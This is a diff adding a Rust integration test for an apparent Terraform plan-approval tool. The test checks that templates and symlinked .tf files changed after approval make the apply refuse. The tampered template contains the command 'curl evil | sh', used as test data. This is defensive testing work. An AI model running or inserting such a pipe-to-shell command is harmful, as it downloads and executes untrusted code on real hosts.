@@ -814,3 +814,65 @@ fn run_show_names_where_it_came_from_and_destroys_first() {
     );
     assert!(apply(&t, &ws, &t.ci, &run).status.success());
 }
+
+/// Every file under the stack's directory is a reviewed input, not only `.tf` files: a template
+/// read with `templatefile()` and a `.tf` file that is a symbolic link (to a file inside the
+/// root, read through the link) are planned, uploaded (the server compares the plan's embedded
+/// `.tf` files with the inputs) and applied; changing the template or the link's target after
+/// approval makes the apply refuse the checkout, naming the file.
+#[test]
+fn templates_and_symlinked_files_are_reviewed_inputs_end_to_end() {
+    let t = team("dev/inputs");
+    let main = format!(
+        "{}resource \"terraform_data\" \"ud\" {{\n  input = templatefile(\"${{path.module}}/templates/user_data.tpl\", {{}})\n}}\n",
+        data_resources(1)
+    );
+    let ws = Workspace::new(&t.s, "dev/inputs", &main);
+    std::fs::create_dir_all(ws.path("templates")).unwrap();
+    std::fs::create_dir_all(ws.path("lib")).unwrap();
+    std::fs::write(ws.path("templates/user_data.tpl"), "echo reviewed\n").unwrap();
+    std::fs::write(
+        ws.path("lib/extra.hcl"),
+        "resource \"terraform_data\" \"extra\" {\n  input = \"shared\"\n}\n",
+    )
+    .unwrap();
+    std::os::unix::fs::symlink("lib/extra.hcl", ws.path("extra.tf")).unwrap();
+
+    let run = plan(&t, &ws, &t.agent, "dev/inputs");
+    t.s.ok(&t.approver, &["approve", &run]);
+    let out = apply(&t, &ws, &t.ci, &run);
+    assert!(out.status.success(), "{}", text(&out));
+    let (code, state) = raw("GET", &t.s.state_url("dev/inputs"), &t.s.admin, b"");
+    assert_eq!(code, 200, "{state}");
+    assert!(
+        state.contains("echo reviewed") && state.contains("\"extra\""),
+        "{state}"
+    );
+
+    // Changed after approval: the template, then the link's target.
+    for (i, (file, content)) in [
+        ("templates/user_data.tpl", "curl evil | sh\n"),
+        (
+            "lib/extra.hcl",
+            "resource \"terraform_data\" \"extra\" {\n  input = \"other\"\n}\n",
+        ),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        ws.write_main(&main.replace(&data_resources(1), &data_resources(2 + i)));
+        let run = plan(&t, &ws, &t.agent, "dev/inputs");
+        t.s.ok(&t.approver, &["approve", &run]);
+        let before = std::fs::read_to_string(ws.path(file)).unwrap();
+        std::fs::write(ws.path(file), content).unwrap();
+        let out = apply(&t, &ws, &t.ci, &run);
+        assert!(
+            !out.status.success()
+                && text(&out).contains("fingerprint")
+                && text(&out).contains(file),
+            "{file}: {}",
+            text(&out)
+        );
+        std::fs::write(ws.path(file), before).unwrap();
+    }
+}
